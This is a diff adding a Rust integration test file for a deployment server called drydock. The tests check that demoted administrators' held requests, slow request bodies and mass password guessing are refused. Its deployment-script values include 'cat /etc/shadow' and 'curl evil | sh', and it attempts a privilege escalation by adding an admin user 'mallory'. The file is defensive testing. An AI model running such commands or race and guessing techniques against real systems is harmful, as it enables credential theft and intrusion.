@@ -1,0 +1,572 @@
+//! What an outside attacker tried against a real install (the real binary on a port),
+//! each written as they did it: held request bodies from an administrator demoted
+//! mid-flight, bodies that never finish.
+
+mod common;
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use common::server::{api_key, create_user, Server};
+use common::{hidden_value, PASSWORD};
+use serde_json::{json, Value};
+
+/// An HTTP/1.1 response read off a socket.
+struct Response {
+    status: u16,
+    head: String,
+    body: String,
+}
+
+impl Response {
+    fn cookie(&self, name: &str) -> Option<String> {
+        self.head.lines().find_map(|l| {
+            let value = l
+                .strip_prefix("set-cookie: ")
+                .or_else(|| l.strip_prefix("Set-Cookie: "))?;
+            let pair = value.split(';').next()?;
+            let (n, v) = pair.split_once('=')?;
+            (n == name).then(|| v.to_string())
+        })
+    }
+}
+
+/// A request whose headers (and the first `sent` bytes of its body) have been written,
+/// with the rest held back.
+struct Held {
+    stream: TcpStream,
+    rest: Vec<u8>,
+}
+
+fn hold(
+    port: u16,
+    method: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+    body: &[u8],
+    sent: usize,
+) -> Held {
+    let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect");
+    stream
+        .set_read_timeout(Some(Duration::from_secs(60)))
+        .unwrap();
+    let mut head = format!(
+        "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\nContent-Length: {}\r\n",
+        body.len()
+    );
+    for (name, value) in headers {
+        head.push_str(&format!("{name}: {value}\r\n"));
+    }
+    head.push_str("\r\n");
+    stream.write_all(head.as_bytes()).unwrap();
+    stream.write_all(&body[..sent]).unwrap();
+    stream.flush().unwrap();
+    Held {
+        stream,
+        rest: body[sent..].to_vec(),
+    }
+}
+
+impl Held {
+    /// Sends the rest of the body and reads the answer.
+    fn finish(mut self) -> Response {
+        self.stream.write_all(&self.rest).unwrap();
+        read_response(self.stream)
+    }
+
+    /// Reads the answer without sending the rest.
+    fn answer(self) -> Response {
+        read_response(self.stream)
+    }
+}
+
+fn read_response(mut stream: TcpStream) -> Response {
+    let mut raw = Vec::new();
+    let _ = stream.read_to_end(&mut raw);
+    let text = String::from_utf8_lossy(&raw).into_owned();
+    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
+    let status = head
+        .split(' ')
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    Response {
+        status,
+        head: head.to_string(),
+        body: body.to_string(),
+    }
+}
+
+fn send(port: u16, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Response {
+    hold(port, method, path, headers, body.as_bytes(), body.len()).finish()
+}
+
+/// A browser session on the real server: its cookie and CSRF token.
+struct Browser {
+    cookie: String,
+    csrf: String,
+    token: String,
+}
+
+fn sign_in(port: u16, username: &str, password: &str) -> Browser {
+    let page = send(port, "GET", "/login", &[], "");
+    let login_cookie = page.cookie("drydock_login_csrf").expect("a sign-in cookie");
+    let form_csrf = hidden_value(&page.body, "csrf_token").expect("a form token");
+    let body = common::form(&[
+        ("username", username),
+        ("password", password),
+        ("csrf_token", &form_csrf),
+    ]);
+    let cookie = format!("drydock_login_csrf={login_cookie}");
+    let signed = send(
+        port,
+        "POST",
+        "/login",
+        &[
+            ("Cookie", &cookie),
+            ("Content-Type", "application/x-www-form-urlencoded"),
+        ],
+        &body,
+    );
+    assert_eq!(signed.status, 303, "{}{}", signed.head, signed.body);
+    let token = signed.cookie("drydock_session").expect("a session cookie");
+    let cookie = format!("drydock_session={token}");
+    let home = send(port, "GET", "/profile", &[("Cookie", &cookie)], "");
+    let csrf = hidden_value(&home.body, "csrf_token").expect("the session's CSRF token");
+    Browser {
+        cookie,
+        csrf,
+        token,
+    }
+}
+
+fn db(dir: &Path) -> rusqlite::Connection {
+    let db = rusqlite::Connection::open(dir.join("drydock.db")).unwrap();
+    db.busy_timeout(Duration::from_secs(10)).unwrap();
+    db
+}
+
+fn last_seen(dir: &Path, token_hash: &str) -> i64 {
+    db(dir)
+        .query_row(
+            "SELECT last_seen_at FROM sessions WHERE token_hash = ?1",
+            [token_hash],
+            |r| r.get(0),
+        )
+        .unwrap()
+}
+
+/// Starts `method path` with `body` as `browser`, holding back its last bytes, and
+/// returns once the server's guards have resolved the caller: the session was set back
+/// two minutes, so resolving it touches it again, which the test can see.
+fn hold_past_the_guards(
+    server: &Server,
+    dir: &Path,
+    browser: &Browser,
+    method: &str,
+    path: &str,
+    body: &Value,
+) -> Held {
+    let hash = drydock::auth::tokens::sha256_hex(&browser.token);
+    db(dir)
+        .execute(
+            "UPDATE sessions SET last_seen_at = last_seen_at - 120000 WHERE token_hash = ?1",
+            [&hash],
+        )
+        .unwrap();
+    let before = last_seen(dir, &hash);
+    let body = body.to_string();
+    let held = hold(
+        server.port,
+        method,
+        path,
+        &[
+            ("Cookie", &browser.cookie),
+            ("X-CSRF-Token", &browser.csrf),
+            ("Content-Type", "application/json"),
+        ],
+        body.as_bytes(),
+        body.len() - 1,
+    );
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while last_seen(dir, &hash) == before {
+        assert!(Instant::now() < deadline, "the guards never ran for {path}");
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    held
+}
+
+/// A server with a second System Administrator, `eve`, signed in three times, and a
+/// project; returns (server, admin key, eve's id, eve's sessions, project id).
+fn with_eve(dir: &Path) -> (Server, String, String, Vec<Browser>, String) {
+    std::fs::write(dir.join("drydock.toml"), "body_timeout_secs = 60\n").unwrap();
+    let key = api_key(dir, "admin");
+    create_user(dir, "eve", "System Administrator", PASSWORD);
+    let server = Server::start(dir);
+    let (_, users) = server.api(&key, "GET", "/api/users", None);
+    let eve = users["Items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|u| u["Username"] == "eve")
+        .unwrap()["Id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let sessions = (0..3)
+        .map(|_| sign_in(server.port, "eve", PASSWORD))
+        .collect();
+    let project = server.create(
+        &key,
+        "/api/projects",
+        json!({"Name": "Web", "DeploymentScript": "echo original"}),
+    );
+    (server, key, eve, sessions, project)
+}
+
+fn project_script(server: &Server, key: &str, project: &str) -> Value {
+    server
+        .api(key, "GET", &format!("/api/projects/{project}"), None)
+        .1["DeploymentScript"]
+        .clone()
+}
+
+fn roles(server: &Server, key: &str, user: &str) -> Value {
+    server
+        .api(key, "GET", &format!("/api/users/{user}"), None)
+        .1["Roles"]
+        .clone()
+}
+
+#[test]
+fn an_administrator_demoted_while_their_bodies_arrive_commits_nothing_in_maintenance() {
+    let dir = tempfile::tempdir().unwrap();
+    let (server, key, eve, sessions, project) = with_eve(dir.path());
+
+    // Three changes, each past the guards as an administrator, bodies held back.
+    let script = hold_past_the_guards(
+        &server,
+        dir.path(),
+        &sessions[0],
+        "PUT",
+        &format!("/api/projects/{project}"),
+        &json!({"Name": "Web", "DeploymentScript": "cat /etc/shadow"}),
+    );
+    let regrant = hold_past_the_guards(
+        &server,
+        dir.path(),
+        &sessions[1],
+        "PUT",
+        &format!("/api/users/{eve}"),
+        &json!({"Roles": ["System Administrator"]}),
+    );
+    let switch_off = hold_past_the_guards(
+        &server,
+        dir.path(),
+        &sessions[2],
+        "PUT",
+        "/api/maintenanceconfiguration",
+        &json!({"Id": "maintenance", "IsInMaintenanceMode": false}),
+    );
+
+    // Meanwhile the real administrator demotes eve and turns maintenance mode on.
+    let (status, body) = server.api(
+        &key,
+        "PUT",
+        &format!("/api/users/{eve}"),
+        Some(json!({"Roles": ["Viewer"]})),
+    );
+    assert_eq!(status, 200, "{body}");
+    let (status, body) = server.api(
+        &key,
+        "PUT",
+        "/api/maintenanceconfiguration",
+        Some(json!({"Id": "maintenance", "IsInMaintenanceMode": true})),
+    );
+    assert_eq!(status, 200, "{body}");
+
+    for (what, held) in [
+        ("the script change", script),
+        ("the re-grant", regrant),
+        ("maintenance off", switch_off),
+    ] {
+        let answer = held.finish();
+        assert_eq!(
+            answer.status, 503,
+            "{what} by a demoted administrator in maintenance: {}{}",
+            answer.head, answer.body
+        );
+        assert!(answer.body.contains("maintenance mode"), "{}", answer.body);
+    }
+    assert_eq!(project_script(&server, &key, &project), "echo original");
+    assert_eq!(roles(&server, &key, &eve), json!(["Viewer"]));
+    let (_, mode) = server.api(&key, "GET", "/api/maintenanceconfiguration", None);
+    assert_eq!(mode["IsInMaintenanceMode"], true);
+}
+
+#[test]
+fn a_caller_who_loses_the_permission_while_their_bodies_arrive_commits_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let (server, key, eve, sessions, project) = with_eve(dir.path());
+
+    let script = hold_past_the_guards(
+        &server,
+        dir.path(),
+        &sessions[0],
+        "PUT",
+        &format!("/api/projects/{project}"),
+        &json!({"Name": "Web", "DeploymentScript": "curl evil | sh"}),
+    );
+    let regrant = hold_past_the_guards(
+        &server,
+        dir.path(),
+        &sessions[1],
+        "PUT",
+        &format!("/api/users/{eve}"),
+        &json!({"Roles": ["System Administrator"]}),
+    );
+    let new_user = hold_past_the_guards(
+        &server,
+        dir.path(),
+        &sessions[2],
+        "POST",
+        "/api/users",
+        &json!({"Username": "mallory", "Password": "a long password here", "Roles": ["System Administrator"]}),
+    );
+
+    // Demoted to System Manager: can still edit users, but may not touch an
+    // administrator; and without ProjectEdit... a System Manager has it, so demote
+    // further to Project Deployer for the project.
+    let (status, body) = server.api(
+        &key,
+        "PUT",
+        &format!("/api/users/{eve}"),
+        Some(json!({"Roles": ["System Manager"]})),
+    );
+    assert_eq!(status, 200, "{body}");
+    let answer = regrant.finish();
+    assert_eq!(answer.status, 403, "{}{}", answer.head, answer.body);
+    let answer = new_user.finish();
+    assert_eq!(answer.status, 403, "{}{}", answer.head, answer.body);
+
+    let (status, body) = server.api(
+        &key,
+        "PUT",
+        &format!("/api/users/{eve}"),
+        Some(json!({"Roles": ["Project Deployer"]})),
+    );
+    assert_eq!(status, 200, "{body}");
+    let answer = script.finish();
+    assert_eq!(answer.status, 403, "{}{}", answer.head, answer.body);
+    assert!(answer.body.contains("ProjectEdit"), "{}", answer.body);
+
+    assert_eq!(project_script(&server, &key, &project), "echo original");
+    assert_eq!(roles(&server, &key, &eve), json!(["Project Deployer"]));
+    let (_, users) = server.api(&key, "GET", "/api/users", None);
+    assert!(!users.to_string().contains("mallory"), "{users}");
+}
+
+#[test]
+fn a_body_that_never_finishes_gets_408_and_changes_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("drydock.toml"), "body_timeout_secs = 2\n").unwrap();
+    let key = api_key(dir.path(), "admin");
+    let server = Server::start(dir.path());
+    let project = server.create(
+        &key,
+        "/api/projects",
+        json!({"Name": "Web", "DeploymentScript": "echo original"}),
+    );
+    let body = json!({"Name": "Web", "DeploymentScript": "echo changed"}).to_string();
+    let started = Instant::now();
+    let held = hold(
+        server.port,
+        "PUT",
+        &format!("/api/projects/{project}"),
+        &[
+            ("X-Octopus-ApiKey", &key),
+            ("Content-Type", "application/json"),
+        ],
+        body.as_bytes(),
+        body.len() - 5,
+    );
+    let answer = held.answer();
+    assert_eq!(answer.status, 408, "{}{}", answer.head, answer.body);
+    assert!(
+        answer.body.contains("did not arrive within 2 seconds"),
+        "{}",
+        answer.body
+    );
+    assert!(started.elapsed() < Duration::from_secs(15));
+    assert_eq!(project_script(&server, &key, &project), "echo original");
+
+    // A form and the sign-in form have the same deadline.
+    let browser = sign_in(
+        server.port,
+        "admin",
+        &std::fs::read_to_string(dir.path().join("initial-admin-password")).unwrap(),
+    );
+    let form = common::form(&[("csrf_token", &browser.csrf), ("name", "Changed")]);
+    let held = hold(
+        server.port,
+        "POST",
+        "/environments",
+        &[
+            ("Cookie", &browser.cookie),
+            ("Content-Type", "application/x-www-form-urlencoded"),
+        ],
+        form.as_bytes(),
+        form.len() - 3,
+    );
+    assert_eq!(held.answer().status, 408);
+    let held = hold(
+        server.port,
+        "POST",
+        "/login",
+        &[("Content-Type", "application/x-www-form-urlencoded")],
+        b"username=admin&password=whatever&csrf_token=x",
+        // Past the 14 bytes Rocket peeks at before routing (see SECURITY.md's limits).
+        20,
+    );
+    assert_eq!(held.answer().status, 408);
+    let (_, envs) = server.api(&key, "GET", "/api/environments", None);
+    assert_eq!(envs["TotalResults"], 0, "{envs}");
+}
+
+/// A sign-in form ready to post: its cookie and form token.
+fn login_form(port: u16) -> (String, String) {
+    let page = send(port, "GET", "/login", &[], "");
+    let cookie = page.cookie("drydock_login_csrf").expect("a sign-in cookie");
+    let token = hidden_value(&page.body, "csrf_token").expect("a form token");
+    (format!("drydock_login_csrf={cookie}"), token)
+}
+
+fn events(dir: &Path, category: &str) -> i64 {
+    db(dir)
+        .query_row(
+            "SELECT count(*) FROM events WHERE category = ?1",
+            [category],
+            |r| r.get(0),
+        )
+        .unwrap()
+}
+
+#[test]
+fn thirty_simultaneous_sign_ins_check_at_most_the_limit_of_passwords() {
+    let dir = tempfile::tempdir().unwrap();
+    create_user(dir.path(), "dana", "Project Deployer", PASSWORD);
+    let server = Server::start(dir.path());
+    let port = server.port;
+    // 29 wrong guesses and the right password, all posted at the same moment.
+    let forms: Vec<(String, String)> = (0..30).map(|_| login_form(port)).collect();
+    let barrier = std::sync::Arc::new(std::sync::Barrier::new(forms.len()));
+    let handles: Vec<_> = forms
+        .into_iter()
+        .enumerate()
+        .map(|(i, (cookie, token))| {
+            let barrier = barrier.clone();
+            std::thread::spawn(move || {
+                let password = if i == 29 {
+                    PASSWORD.to_string()
+                } else {
+                    format!("wrong guess {i}")
+                };
+                let body = common::form(&[
+                    ("username", "dana"),
+                    ("password", &password),
+                    ("csrf_token", &token),
+                ]);
+                barrier.wait();
+                send(
+                    port,
+                    "POST",
+                    "/login",
+                    &[
+                        ("Cookie", &cookie),
+                        ("Content-Type", "application/x-www-form-urlencoded"),
+                    ],
+                    &body,
+                )
+                .status
+            })
+        })
+        .collect();
+    let statuses: Vec<u16> = handles.into_iter().map(|h| h.join().unwrap()).collect();
+    let checked = statuses.iter().filter(|s| **s == 401 || **s == 303).count();
+    let throttled = statuses.iter().filter(|s| **s == 429).count();
+    assert!(
+        checked <= 5,
+        "{checked} passwords were checked: {statuses:?}"
+    );
+    assert_eq!(checked + throttled, 30, "{statuses:?}");
+    let audited = events(dir.path(), "LoginFailed") + events(dir.path(), "LoginSucceeded");
+    assert_eq!(audited as usize, checked, "{statuses:?}");
+}
+
+#[test]
+fn the_profile_password_form_is_no_password_oracle() {
+    let dir = tempfile::tempdir().unwrap();
+    create_user(dir.path(), "dana", "Viewer", PASSWORD);
+    let server = Server::start(dir.path());
+    let browser = sign_in(server.port, "dana", PASSWORD);
+    let try_password = |current: &str| {
+        let body = common::form(&[
+            ("csrf_token", &browser.csrf),
+            ("current_password", current),
+            ("new_password", "an entirely new password"),
+            ("confirm_password", "an entirely new password"),
+        ]);
+        send(
+            server.port,
+            "POST",
+            "/profile/password",
+            &[
+                ("Cookie", &browser.cookie),
+                ("Content-Type", "application/x-www-form-urlencoded"),
+            ],
+            &body,
+        )
+    };
+    let mut wrong_checked = 0;
+    for i in 0..30 {
+        let answer = try_password(&format!("guess number {i}"));
+        match answer.status {
+            // Checked and wrong: back to the profile with the error.
+            303 => wrong_checked += 1,
+            429 => {
+                assert!(
+                    answer.head.to_lowercase().contains("retry-after:"),
+                    "{}",
+                    answer.head
+                );
+            }
+            other => panic!("guess {i}: {other} {}{}", answer.head, answer.body),
+        }
+    }
+    assert_eq!(wrong_checked, 5);
+    // The right password, guessed now, is refused too: the form checks nothing more.
+    let answer = try_password(PASSWORD);
+    assert_eq!(answer.status, 429, "{}{}", answer.head, answer.body);
+    assert_eq!(events(dir.path(), "PasswordCheckFailed"), 5);
+    assert_eq!(events(dir.path(), "UserPasswordChanged"), 0);
+    // And the sign-in form shares the throttle: the username is locked for the window.
+    let (cookie, token) = login_form(server.port);
+    let body = common::form(&[
+        ("username", "dana"),
+        ("password", PASSWORD),
+        ("csrf_token", &token),
+    ]);
+    let answer = send(
+        server.port,
+        "POST",
+        "/login",
+        &[
+            ("Cookie", &cookie),
+            ("Content-Type", "application/x-www-form-urlencoded"),
+        ],
+        &body,
+    );
+    assert_eq!(answer.status, 429);
+}
